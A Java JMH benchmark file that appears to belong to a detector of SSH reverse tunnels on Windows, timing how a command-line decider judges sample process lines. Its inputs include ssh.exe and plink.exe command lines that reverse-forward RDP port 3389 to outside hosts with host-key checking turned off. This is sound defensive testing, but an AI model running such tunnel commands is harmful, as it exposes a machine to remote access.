package dev.backflow.detection;

import dev.backflow.commandline.WindowsArgv;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/**
 * What a decision costs beside splitting the same line: the ratio holds on any machine, the times do
 * not. A decision may take six times the splitting, one on an image that is no client half of it.
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.AverageTime)
@OutputTimeUnit(TimeUnit.NANOSECONDS)
@Warmup(iterations = 3, time = 1)
@Measurement(iterations = 3, time = 1)
@Fork(1)
public class DecisionBenchmark {
  /** Which line. */
  public enum Line {
    /** ssh with a reverse forward among ordinary options. */
    SSH_FORWARD(
        "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
        "\"C:\\Windows\\System32\\OpenSSH\\ssh.exe\" -i C:\\ProgramData\\keys\\id_rsa -N -R"
            + " 8080:127.0.0.1:3389 root@vps.example.com -o StrictHostKeyChecking=no -o"
            + " ServerAliveInterval=60"),
    /** ssh as git starts it. */
    SSH_GIT(
        "C:\\Program Files\\Git\\usr\\bin\\ssh.exe",
        "\"C:\\Program Files\\Git\\usr\\bin\\ssh.exe\" -o SendEnv=GIT_PROTOCOL git@git.example.com"
            + " \"git-upload-pack 'team/product.git'\""),
    /** plink with a reverse forward. */
    PLINK_FORWARD(
        "C:\\Tools\\plink.exe",
        "plink.exe -N -T -R 0.0.0.0:1251:127.0.0.1:3389 203.0.113.7 -P 22 -l forward -batch"
            + " -no-antispoof"),
    /** A browser's child: nothing of it concerns ssh. */
    NO_CLIENT(
        "C:\\Program Files\\Vendor\\Browser\\browser.exe",
        "\"C:\\Program Files\\Vendor\\Browser\\browser.exe\" --type=renderer --lang=en-US"
            + " --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=7"
            + " --launch-time-ticks=4711 --field-trial-handle=1824,i,123,456,262144 /prefetch:1"),
    /** A service host, as Windows starts it by the dozen. */
    NO_CLIENT_SHORT(
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s RmSvc");

    private final Subject subject;

    Line(String image, String line) {
      subject = Subject.of(image, null, line);
    }
  }

  @Param private Line line;

  private final CommandLineDecider decider = new CommandLineDecider();

  /** Splitting alone. */
  @Benchmark
  public List<WindowsArgv.Argument> split() {
    return WindowsArgv.split(line.subject.commandLine());
  }

  /** The decision on which a detector rests; what it decides to report it then redacts. */
  @Benchmark
  public Object decide() {
    return decider.judgeAll(line.subject, Judgement.Context.RUNNING, "");
  }

  /** The decision with its text redacted, as explain gives it. */
  @Benchmark
  public Object decideAndRedact() {
    return decider.decide(line.subject);
  }
}
